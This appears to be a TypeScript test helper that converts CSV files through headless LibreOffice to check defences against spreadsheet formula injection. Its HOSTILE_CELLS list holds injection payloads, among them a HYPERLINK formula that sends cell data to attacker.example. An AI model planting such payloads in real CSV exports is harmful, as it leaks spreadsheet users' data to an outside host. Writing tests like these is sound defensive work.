// Real LibreOffice for the CSV tests (docs/THREAT-MODEL.md, T40): a CSV converted headless to a
// flat ODF spreadsheet with the most trusting import a newsroom's LibreOffice could be set to,
// then read back cell by cell. Fails (never skips) without soffice: .ci/run installs it.
import { spawn, spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import type { Test } from 'tap';

/** Every hostile text a spreadsheet could take for a formula or split at a separator. */
export const HOSTILE_CELLS = [
  'a;=1+1',
  'b\t=2+3',
  'c,=3+4',
  '=HYPERLINK("http://attacker.example/?"&A1;"open")',
  '+5+6',
  '-7+8',
  '@SUM(9;10)',
  '\uff1d11+12',
  '\uff0b13',
  '\uff0d14',
  '\uff2015',
  '\t=16+17',
  ' =18+19',
  '\u3000=20+21',
  'd";=22+23',
  'e\n=24+25',
  'f;"=26+27";g',
];

/** The text a guarded cell holds: csvCell's leading ' before formula-looking text. */
export const guarded = (text: string): string => (/^[\t\r]|^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(text) ? `'${text}` : text);

/** Each cell's text in a flat ODF spreadsheet (spaces, tabs and line breaks restored), and whether any holds a formula. */
export function fodsCells(xml: string): { cells: string[]; formulas: string[] } {
  const formulas = [...xml.matchAll(/table:formula="([^"]*)"/g)].map((m) => m[1]!);
  const cells: string[] = [];
  for (const m of xml.matchAll(/<table:table-cell\b[^>]*?(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)) {
    const inner = m[1] ?? '';
    const paragraphs = [...inner.matchAll(/<text:p>([\s\S]*?)<\/text:p>|<text:p\/>/g)].map((p) =>
      (p[1] ?? '')
        .replace(/<text:s text:c="(\d+)"\/>/g, (_, n: string) => ' '.repeat(Number(n)))
        .replace(/<text:s\/>/g, ' ')
        .replace(/<text:tab\/>/g, '\t')
        .replace(/<text:line-break\/>/g, '\n')
        .replace(/<[^>]+>/g, '')
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&quot;/g, '"')
        .replace(/&apos;/g, "'")
        .replace(/&amp;/g, '&'),
    );
    cells.push(paragraphs.join('\n'));
  }
  return { cells, formulas };
}

function run(cmd: string, args: string[]): Promise<{ code: number | null; out: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(cmd, args, { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.on('data', (d) => (out += d));
    child.stderr.on('data', (d) => (out += d));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, out }));
  });
}

/** True when soffice does not run here, after failing `t` with how to install it (a test fails, never skips). */
export function sofficeMissing(t: Test): boolean {
  const probe = spawnSync('soffice', ['--version'], { encoding: 'utf8' });
  if (!probe.error && probe.status === 0) return false;
  t.fail('soffice (LibreOffice) is missing: install libreoffice-calc-nogui (.ci/run does)');
  return true;
}

/**
 * Opens `csvPath` in LibreOffice and returns its cells. Separators , ; tab (44/59/9), text
 * delimiter ", UTF-8 (76), from line 1, standard columns, en-US, quoted fields NOT forced to
 * text, special numbers detected, formulas evaluated; a fresh profile under `work`.
 */
export async function openInLibreOffice(work: string, csvPath: string): Promise<{ code: number | null; out: string; cells: string[]; formulas: string[] }> {
  const filter = 'CSV:44/59/9,34,76,1,,1033,false,true,false,false,false,-1,true';
  const converted = join(work, 'converted');
  const { code, out } = await run('soffice', [
    `-env:UserInstallation=file://${join(work, 'lo-profile')}`,
    '--headless',
    '--norestore',
    `--infilter=${filter}`,
    '--convert-to',
    'fods',
    '--outdir',
    converted,
    csvPath,
  ]);
  if (code !== 0) return { code, out, cells: [], formulas: [] };
  return { code, out, ...fodsCells(readFileSync(join(converted, basename(csvPath).replace(/\.csv$/, '.fods')), 'utf8')) };
}
